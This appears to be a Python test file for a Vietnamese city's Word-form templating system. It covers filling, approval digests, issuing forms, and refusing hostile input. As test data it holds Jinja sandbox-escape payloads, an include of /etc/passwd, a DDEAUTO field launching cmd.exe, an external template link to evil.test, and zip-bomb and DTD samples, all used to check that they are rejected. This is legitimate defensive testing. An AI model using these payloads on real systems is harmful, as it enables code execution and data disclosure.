"""The city's own Word forms: what they print, what is refused and how it is said, what an approval binds to."""

import io
import time
import zipfile
from dataclasses import replace
from datetime import date
from pathlib import Path

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.opc.packuri import PackURI
from docx.opc.part import Part

from daemon.documents.forms.guard import MOST_BYTES, FormFault
from daemon.documents.forms.own_forms import (
    FEWEST,
    FULL,
    HOSTILE,
    NAMES,
    WordForm,
    filled,
    form_faults,
    in_form,
    issued,
    load_forms,
    own_forms,
    samples,
    strange_forms,
    words,
)
from daemon.documents.forms.values import values_of
from daemon.documents.making import files_of, from_json, to_json, write
from daemon.documents.model import digest, issue
from daemon.documents.session_papers import build_plan
from tests.support.word_files import word

SHIPPED = Path(__file__).parents[4] / "mail_templates/forms"


def with_part(name: str, data: bytes) -> bytes:
    """A Word file with one part more, or another in its place."""
    held = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(word("{{ chu_de }}"))) as old,
        zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for part in old.namelist():
            if part != name:
                new.writestr(part, old.read(part))
        new.writestr(name, data)
    return held.getvalue()


def with_body(xml: str) -> bytes:
    """A Word file with this paragraph before its own."""
    with zipfile.ZipFile(io.BytesIO(word("{{ chu_de }}"))) as made:
        document = made.read("word/document.xml").decode()
    return with_part("word/document.xml", document.replace("<w:body>", f"<w:body><w:p>{xml}</w:p>").encode())


def damaged(method: int) -> bytes:
    """A Word file whose long part is packed by this method and broken in its middle."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", method) as archive:
        archive.writestr("word/document.xml", bytes(range(256)) * 400)
    data = bytearray(held.getvalue())
    data[60:90] = b"\xff" * 30
    return bytes(data)


def fault(data: bytes, kind: str = "plan") -> str:
    """The one line in which a form is refused."""
    lines = list(form_faults({kind: WordForm(NAMES[kind], data)}))
    assert len(lines) == 1, "refused"
    assert "\n" not in lines[0]
    return lines[0]


def test_the_shipped_examples_withstand_the_samples_and_are_what_the_script_makes() -> None:
    from scripts.make_forms import form

    forms = {kind: WordForm(name, (SHIPPED / name).read_bytes()) for kind, name in NAMES.items()}
    assert list(form_faults(forms)) == []
    for kind, one in forms.items():
        made = form(kind)
        with zipfile.ZipFile(io.BytesIO(made)) as new, zipfile.ZipFile(io.BytesIO(one.data)) as old:
            assert new.read("word/document.xml") == old.read("word/document.xml"), (
                f"{one.name}: run scripts.make_forms"
            )


def test_the_example_plan_goes_to_the_chair_and_every_unit_once() -> None:
    text = words(filled("ke-hoach.docx", (SHIPPED / "ke-hoach.docx").read_bytes(), samples("plan")[0]))
    copies = text[text.index("Nơi nhận") :].splitlines()[1:]
    assert copies[:5] == [
        *("- Ủy ban nhân dân thành phố (để báo cáo);", "- Người chủ trì;", "- Sở Xây dựng;"),
        *("- Công an thành phố;", "- Lưu: VT, BBT."),
    ]


def test_a_name_is_broken_at_the_head_alone_and_not_within_a_sentence() -> None:
    given = FULL["plan"]
    head = replace(given.filing.letterhead, issuer="Ban Biên tập\nĐối thoại trực tuyến")
    values = values_of(replace(given, filing=replace(given.filing, letterhead=head)))
    assert values["co_quan"] == "Ban Biên tập Đối thoại trực tuyến"
    assert values["tieu_de_co_quan"] == "Ban Biên tập\nĐối thoại trực tuyến"
    assert "\n" not in values["co_quan_cap_tren"]


def test_a_value_is_text_however_it_looks() -> None:
    text = words(filled("ke-hoach.docx", word("{{ chu_tri }}", "{{ so_van_ban }}"), samples("plan")[0]))
    assert text.splitlines() == [f"{HOSTILE}, Giám đốc, Sở Xây dựng", "Số: /KH-BBT".replace(": ", ":         ")]


def test_every_paper_gives_the_same_names_full_or_not() -> None:
    for kind, given in FULL.items():
        assert set(values_of(given)) == set(values_of(FEWEST[kind])), kind


@pytest.mark.parametrize(
    ("paragraph", "told"),
    [
        ("Địa chỉ: {{ dia_chi }}", "không có mục “dia_chi”"),
        ("{% if to_trinh %}{{ dia_chi }}{% endif %}", "không có mục “dia_chi”"),
        ("{% for l in lanh_dao %}{{ l.email }}{% endfor %}", "email"),
        ("{{ ''.__class__ }}", "không dùng được tên “__class__”"),
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "không dùng được phép"),
        ("{{ chu_de.upper() }}", "không dùng được phép “Call”"),
        ("{{ chu_de.format }}", "chỉ in được từng mục"),
        ("{{ chu_de | attr('__class__') }}", "không có bộ lọc “attr”"),
        ("{{ muc_dich }}", "chỉ in được từng mục"),
        ("{{ chu_de * 999999999 }}", "không dùng được phép “Mul”"),
        ("{% set x = chu_de ~ chu_de %}", "không dùng được phép"),
        ("{% include '/etc/passwd' %}", "không dùng được phép “Include”"),
        ("{% macro m() %}{{ m() }}{% endmacro %}", "không dùng được phép “Macro”"),
        ("{% for a in muc_dich %}" * 4 + "{% endfor %}" * 4, "lồng quá 3 lớp"),
        ("{% for a in muc_dich %}", "viết sai"),
        ("{{ chu_de", "không đủ cặp"),
    ],
)  # fmt: skip
def test_a_missing_value_and_a_way_out_of_the_sandbox_are_refused(paragraph: str, told: str) -> None:
    line = fault(word("Kế hoạch", paragraph))
    assert line.startswith("mẫu ke-hoach.docx: ")
    assert told in line
    assert "; xin " in line, "the remedy"


def test_the_place_of_a_fault_is_its_paragraph() -> None:
    assert "đoạn “Địa chỉ: {{ dia_chi }}”" in fault(word("Kế hoạch", "Địa chỉ: {{ dia_chi }}", "{{ chu_de }}"))
    assert "đoạn “{% for l in lanh_dao %}{{ l.email }}" in fault(
        word("Kế hoạch", "{% for l in lanh_dao %}{{ l.email }}{% endfor %}")
    )


RELATIONS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.test/x.dotm" TargetMode="External"/></Relationships>'
)
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
DDE = f'<w:instrText {W}>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText>'.encode()
SIGN_BEFORE_MODE = RELATIONS.replace(b'Target="', b'Target="x>')
CHUNK = RELATIONS.replace(b"attachedTemplate", b"aFChunk").replace(b' TargetMode="External"', b"")


def field(*runs: str) -> bytes:
    """A Word file with a field whose instruction stands in these runs."""
    return with_body("".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in runs))


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (b"no zip at all", "không mở được như tệp Word"),
        (b"PK\x03\x04" + bytes(60), "không mở được như tệp Word"),
        (bytes(MOST_BYTES + 1), "lớn hơn 2 MB"),
        (with_part("word/media/bomb.bin", bytes(30_000_000)), "bung ra quá lớn"),
        (with_part("word/document.xml", b"<w>" + b" " * 2_100_000), "quá dài"),
        (with_part("word/document.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "có khai báo DTD"),
        (with_part("word/vbaProject.bin", b"x"), "có macro hoặc tệp nhúng"),
        (with_part("word/embeddings/oleObject1.bin", b"x"), "có macro hoặc tệp nhúng"),
        (with_part("word/_rels/settings.xml.rels", RELATIONS), "tự tải tệp từ nơi khác"),
        (with_part("word/footer9.xml", DDE), "tự lấy nội dung từ nơi khác"),
        (with_part("word/document.xml", b"<broken"), "word/document.xml: không đọc được"),
        (field("ddeauto c:\\\\x"), "tự lấy nội dung từ nơi khác"),
        (field("D", "DEAUTO c:\\\\x"), "tự lấy nội dung từ nơi khác"),
        (field("D{# so #}DEAUTO c:\\\\x"), "tự lấy nội dung từ nơi khác"),
        (with_part("word/footer9.xml", DDE.decode().encode("utf-16")), "word/footer9.xml: không"),
        (with_part("word/media/footer9.png", DDE), "tự lấy nội dung từ nơi khác"),
        (with_part("word/_rels/settings.xml.rels", SIGN_BEFORE_MODE), "tự tải tệp từ nơi khác"),
        (with_part("word/_rels/document.xml.rels", CHUNK), "có macro hoặc tệp nhúng"),
        (with_body("</w:p><w:altChunk/><w:p>"), "chèn một tệp khác vào"),
        (damaged(zipfile.ZIP_DEFLATED), "không mở được như tệp Word"),
        (damaged(zipfile.ZIP_LZMA), "không mở được như tệp Word"),
        (damaged(zipfile.ZIP_BZIP2), "không mở được như tệp Word"),
        (word(*["{{ chu_de }}"] * 1001), "hơn 1000 chỗ điền"),
    ],
    ids=[
        *("text", "zip", "large", "bomb", "long", "dtd", "macro", "embedded", "template", "dde", "broken"),
        *("small letters", "two runs", "put together", "utf-16", "other name", "sign in attribute", "chunk"),
        *("alt chunk", "deflate", "lzma", "bzip2", "tags"),
    ],
)
def test_a_hostile_or_huge_file_is_refused(data: bytes, told: str) -> None:
    assert told in fault(data)


def test_a_link_and_a_field_of_the_page_may_stand_in_a_form() -> None:
    link = RELATIONS.replace(b"attachedTemplate", b"hyperlink").replace(b"r1", b"r99")
    for data in (
        field(" PAGE "), field('HYPERLINK "https://haiphong.test/import/hidden"'),
        with_part("word/_rels/footer9.xml.rels", link),
    ):  # fmt: skip
        assert list(form_faults({"plan": WordForm(NAMES["plan"], data)})) == []


@pytest.mark.parametrize(
    ("paragraph", "told"),
    [
        ("{% for a in chu_de %}{{ a }}{% endfor %}", "chỉ đi qua được danh sách"),
        ("{% for a in 'abc' %}{% endfor %}", "chỉ đi qua được danh sách"),
        (
            "{% for a in ly_do %}{% for b in ly_do %}{% for c in ly_do %}{% endfor %}{% endfor %}{% endfor %}",
            "quá dài",
        ),
        ("{% for a in ly_do %}{% for b in ly_do %}{{ chu_de }}{% endfor %}{% endfor %}", "quá dài"),
        ("{% for a in ly_do %}" + "Một đoạn dài. " * 5000 + "{% endfor %}", "quá dài"),
    ],
    ids=["text", "constant", "rounds", "value", "own words"],
)
def test_no_form_runs_for_long(paragraph: str, told: str) -> None:
    """A loop over the letters of a text is refused, and rounds are counted before they run."""
    values = {"chu_de": "Cấp phép " * 100, "ly_do": ["x"] * 300}
    began = time.process_time()
    with pytest.raises(FormFault, match=told):
        filled("to-trinh.docx", word(paragraph), values)
    assert time.process_time() - began < 2


def test_notes_at_the_end_are_approved_too() -> None:
    file = docx.Document()
    file.add_paragraph("{{ chu_de }}")
    note = f"<w:endnotes {W}><w:endnote><w:p><w:r><w:t>Ghi chú cuối</w:t></w:r></w:p></w:endnote></w:endnotes>"
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.endnotes+xml"
    package = file.part.package
    assert package is not None
    file.part.relate_to(Part(PackURI("/word/endnotes.xml"), kind, note.encode(), package), RELATIONSHIP_TYPE.ENDNOTES)
    held = io.BytesIO()
    file.save(held)
    text = words(filled("ke-hoach.docx", held.getvalue(), samples("plan")[0]))
    assert text.splitlines() == ["Cấp phép xây dựng", "Ghi chú cuối"]


def test_a_file_that_is_no_word_file_is_refused() -> None:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("readme.txt", "hello")
    assert "không phải tệp Word" in fault(held.getvalue())


def test_an_approval_binds_the_words_of_the_filled_form_and_not_number_and_day() -> None:
    given = FULL["plan"]
    form = {"plan": WordForm("ke-hoach.docx", word("{{ so_van_ban }}", "{{ ngay_van_ban }}", "Về {{ chu_de }}"))}
    plain = build_plan(given)  # type: ignore[arg-type]
    made = in_form(plain, given, form)
    assert digest(made) != digest(plain)
    assert "Về Cấp phép xây dựng" in made.form.text  # type: ignore[union-attr]
    assert digest(issue(made, 5, date(2026, 11, 11))) == digest(made)
    again = in_form(plain, given, {"plan": WordForm("ke-hoach.docx", word("Về việc {{ chu_de }}"))})
    assert digest(again) != digest(made), "another form is another text"
    other = replace(given, session=replace(given.session, topic="Đường sá"))
    assert digest(in_form(plain, other, form)) != digest(made)


def test_what_was_approved_is_issued_in_the_form_of_then() -> None:
    """The paper carries its form: another one in the folder meanwhile changes nothing."""
    given = FULL["plan"]
    form = {"plan": WordForm("ke-hoach.docx", word("{{ so_van_ban }} | {{ ngay_van_ban }}", "Về {{ chu_de }}"))}
    made = in_form(build_plan(given), given, form)  # type: ignore[arg-type]
    (kept,) = from_json(to_json([made]))
    assert kept == made
    (file,) = files_of(issue(kept, 5, date(2026, 11, 11)), "ke-hoach-05")
    assert file.name == "ke-hoach-05.docx", "no PDF of another layout beside it"
    assert words(file.data).splitlines() == [
        "Số: 05/KH-BBT | Hải Phòng, ngày 11 tháng 11 năm 2026", "Về Cấp phép xây dựng"
    ]  # fmt: skip
    assert files_of(kept, "a") == files_of(made, "a"), "the same bytes each time"


def test_a_paper_without_a_form_is_as_it_was(tmp_path: Path) -> None:
    given = FULL["plan"]
    plain = build_plan(given)  # type: ignore[arg-type]
    assert in_form(plain, given, {}) is plain
    assert [path.suffix for path in write(plain, tmp_path)] == [".docx", ".pdf"]


def test_forms_are_found_in_the_folder_and_strange_names_told(tmp_path: Path) -> None:
    place = tmp_path / "forms"
    place.mkdir()
    (place / "ke-hoach.docx").write_bytes(word("{{ chu_de }}"))
    (place / "kehoach.docx").write_bytes(b"x")
    (place / "~$ke-hoach.docx").write_bytes(b"Word's own lock")
    assert list(own_forms(tmp_path)) == ["plan"]
    assert {kind for kind, form in load_forms(tmp_path).items() if form.own} == {"plan"}, "the others ship"
    assert strange_forms(tmp_path) == ("kehoach.docx",)
    assert own_forms(None) == {}
    assert strange_forms(tmp_path / "none") == ()


def test_headers_and_footers_are_filled_in_and_approved_too() -> None:
    file = docx.Document()
    file.sections[0].header.paragraphs[0].text = "{{ co_quan }}"
    file.sections[0].footer.paragraphs[0].text = "Chân trang {{ nguoi_ky }}"
    file.add_paragraph("{{ chu_de }}")
    held = io.BytesIO()
    file.save(held)
    text = words(filled("ke-hoach.docx", held.getvalue(), samples("plan")[0]))
    assert text.splitlines() == ["Ban Biên tập", "Cấp phép xây dựng", "Chân trang Nguyễn Văn A"]


def test_a_fault_of_a_form_is_an_error_of_the_configuration() -> None:
    with pytest.raises(FormFault, match="không có mục"):
        filled("ke-hoach.docx", word("{{ x }}"), issued())
